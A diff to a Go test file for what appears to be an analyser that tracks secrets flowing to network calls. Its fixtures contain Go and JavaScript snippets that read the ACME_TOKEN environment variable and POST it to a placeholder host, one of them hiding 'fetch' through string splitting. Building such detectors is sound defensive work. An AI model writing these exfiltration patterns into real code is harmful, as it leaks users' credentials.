@@ -35,6 +35,14 @@ func TestRest(t *testing.T) {
 	}
 }
 
+// A function in one line has statements, too.
+func TestLooseLine(t *testing.T) {
+	found := chain.Loose(chain.Text{File: "a.go", Source: []byte("package main\nfunc f(a string) { b := os.Getenv(\"ACME_TOKEN\"); http.Post(\"https://in.example.net\", b) }\n"), Start: document.Position{Line: 1, Column: 1}})
+	if len(found) != 1 || found[0].Source.Name != "ACME_TOKEN" {
+		t.Errorf("got %v", found)
+	}
+}
+
 // A part in brackets is the part of that name, and what all scripts have stands for itself.
 func TestBrackets(t *testing.T) {
 	got := follow(t, "-- a.js --\nconst e = process['env']\nglobalThis['fet' + 'ch']('https://in.example.net', {method: 'POST', body: e.ACME_TOKEN})\n")
